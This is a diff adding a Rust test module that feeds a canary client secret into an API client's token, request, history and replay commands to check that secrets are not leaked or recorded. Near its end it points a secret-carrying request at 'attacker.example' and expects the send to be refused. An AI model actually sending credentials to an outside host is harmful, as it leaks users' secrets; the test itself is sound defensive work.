@@ -1,0 +1,67 @@
+//! Tokens, and requests that carry secrets where somebody might put them.
+
+use crate::leak::script::Script;
+use serde_json::{Value, json};
+
+impl Script {
+    pub(super) fn requests(&self, id: &Value, jwt: &Value) {
+        for (profile, name) in [(id, "window's token"), (jwt, "window's JWT token")] {
+            self.ask("token_get", json!({ "id": profile }));
+            self.ask("token_renew", json!({ "id": profile }));
+            self.ask("token_curl", json!({ "id": profile }));
+            for form in ["header", "curl"] {
+                self.ask("token_copy", json!({ "id": profile, "form": form }));
+            }
+            self.ask("token_copy", json!({ "id": profile, "form": "token" }));
+            let token = self.window.paper.read().expect("the token is on the clipboard");
+            self.tokens.borrow_mut().push((name.to_owned(), token));
+        }
+        self.ask("requests_list", json!({}));
+        let path = json!({ "path": "Places/List libraries", "origin": "catalogue" });
+        self.ask("request_get", path);
+
+        let request = self.request();
+        let saved = json!({ "path": "Canary/Own", "request": request });
+        // The person's own file keeps what they typed: it is refused or kept where they can see it, never recorded.
+        let mut harmless = saved.clone();
+        harmless["request"]["body"] = json!("{\"name\": \"{{TENANT_ID}}\"}");
+        harmless["request"]["headers"] = json!([]);
+        harmless["request"]["url"] =
+            json!("https://api-places.adobe.io/places/placesapi/v1/libraries");
+        self.ask("request_save", harmless);
+        self.ask("request_cancel", json!({}));
+        let sent = self
+            .ask("request_send", json!({ "profile": id, "request": request, "confirmed": true }));
+        let exchange = sent["summary"]["id"].clone();
+        let query =
+            |text: &str| json!({ "profile": null, "text": text, "before": null, "limit": 9 });
+        self.ask("history_list", query(""));
+        self.ask("history_list", query(&self.plan.secret("client secret")));
+        self.ask("history_get", json!({ "id": exchange }));
+        self.ask("history_body", json!({ "id": exchange, "offset": 0 }));
+        let replay = json!({ "id": exchange, "profile": id, "confirmed": true });
+        self.ask("history_replay", replay);
+        let mut elsewhere = request.clone();
+        elsewhere["url"] = json!("https://attacker.example/");
+        let call = json!({ "profile": id, "request": elsewhere, "confirmed": true });
+        self.refused("request_send", call);
+    }
+
+    /// The client secret in the address, in headers and in the body, and the token in a cookie.
+    fn request(&self) -> Value {
+        let secret = self.plan.secret("client secret");
+        let escaped: String = secret.bytes().map(|byte| format!("%{byte:02X}")).collect();
+        let url = "https://api-places.adobe.io/places/placesapi/v1/libraries";
+        json!({
+            "name": "Canary", "method": "POST", "url": format!("{url}?a={secret}&b={escaped}"),
+            "headers": [
+                { "name": "Authorization", "value": "Bearer {{ACCESS_TOKEN}}" },
+                { "name": "x-api-key", "value": "{{API_KEY}}" },
+                { "name": "x-gw-ims-org-id", "value": "{{IMS_ORG}}" },
+                { "name": "x-canary", "value": secret },
+                { "name": "Content-Type", "value": "application/json" },
+            ],
+            "body": json!({ "name": secret }).to_string(),
+        })
+    }
+}
